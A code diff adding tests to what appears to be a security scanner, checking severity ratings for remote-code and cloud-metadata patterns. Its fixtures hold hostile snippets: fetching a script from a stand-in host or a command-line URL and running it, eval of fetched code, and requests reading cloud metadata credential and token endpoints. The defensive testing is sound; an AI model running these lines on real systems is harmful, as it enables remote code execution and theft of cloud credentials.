@@ -303,3 +303,51 @@ def test_data_module_over_its_own_cap_stays_unread(tmp_path):
 def test_data_module_that_runs_its_data_is_still_read_as_code():
     text = _module(20, "\nimport base64\nexec(base64.b64decode(GLYPHS['glyph_3']['svg']))\n")
     assert top("glyphs.py", text, "IG702") in HIGH
+
+
+# -- data from a service on this machine is no download ------------------------------------------
+_LOCAL_HELPER = (
+    "const API = 'http://127.0.0.1:9222';\n"
+    "async function pageSize(id) {\n  const r = await fetch(`${API}/json/size?id=${id}`);\n  return await r.json();\n}\n"
+    "const size = await pageSize(tab);\nconst out = dest.replace(/\\.pdf$/, '_merge.rb');\n"
+    "fs.writeFileSync(out, ['require \"combine_pdf\"', `pages = ${size.pages}`, 'CombinePDF.save'].join('\\n'));\n"
+    "execSync(`ruby ${out}`, { stdio: 'inherit' });\n"
+)
+
+
+def test_a_helper_fed_by_a_local_service_is_not_remote_code():
+    # a browser's debugging port or a local proxy answers the page facts a generated helper uses
+    assert top("merge.mjs", _LOCAL_HELPER, "IG701") in (Severity.MEDIUM, Severity.LOW, None)
+
+
+@pytest.mark.parametrize("text", [
+    # the same helper fed by a stranger's host
+    _LOCAL_HELPER.replace("http://127.0.0.1:9222", "https://cdn.page-tools.example"),
+    # one local fetch beside one whose URL the script does not spell out
+    _LOCAL_HELPER + "const extra = await (await fetch(process.argv[3])).text();\nfs.writeFileSync('/tmp/x.sh', extra);\nexecSync('sh /tmp/x.sh');\n",
+    # a body from the local port run as code is still run as code
+    "const LOCAL = 'http://localhost:8000';\nconst code = await (await fetch(`${LOCAL}/boot.js`)).text();\neval(code);\n",
+])
+def test_network_or_run_as_code_stays_high(text):
+    assert top("merge.mjs", text, "IG701") in (Severity.HIGH, Severity.CRITICAL)
+
+
+# -- a metadata address inside a sentence told to a tester is advice, not a request ---------------
+@pytest.mark.parametrize("path,text", [
+    ("checklist.py", "STEPS = [\n    Step('SSRF-1', 'Cloud credentials via SSRF',\n"
+                     "         'Paste http://169.254.169.254/latest/meta-data/ into every webhook field.'),\n]\n"),
+    ("checks.ts", "export const ssrf = { id: 'S1', how: 'Try http://metadata.google.internal/ as the avatar URL and watch the logs.' };\n"),
+])
+def test_metadata_address_in_advice_is_not_high(path, text):
+    assert top(path, text, "IG710") in (Severity.MEDIUM, Severity.LOW, None)
+
+
+@pytest.mark.parametrize("path,text", [
+    ("probe.py", "import requests\nr = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')\nprint(r.text)\n"),
+    ("probe.py", "import subprocess\nsubprocess.run('curl -s http://169.254.169.254/latest/meta-data/ | tee /tmp/m', shell=True)\n"),
+    ("probe.ts", "const r = await fetch('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token');\n"),
+    # a sentence-looking string that is a command line with an option
+    ("probe.py", "import os\nos.system('Curl -s http://169.254.169.254/latest/meta-data/ -o out and keep it.')\n"),
+])
+def test_metadata_address_requested_stays_high(path, text):
+    assert top(path, text, "IG710") in (Severity.HIGH, Severity.CRITICAL)
